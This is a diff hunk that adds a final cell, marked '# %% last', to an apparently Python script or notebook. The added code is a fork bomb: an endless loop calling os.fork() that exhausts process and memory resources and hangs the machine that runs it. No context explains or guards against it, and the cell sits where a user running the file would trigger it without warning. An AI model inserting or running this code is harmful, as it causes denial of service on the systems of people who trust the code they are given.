@@ -1,0 +1,4 @@
+# %% last
+import os
+while True:
+    os.fork()
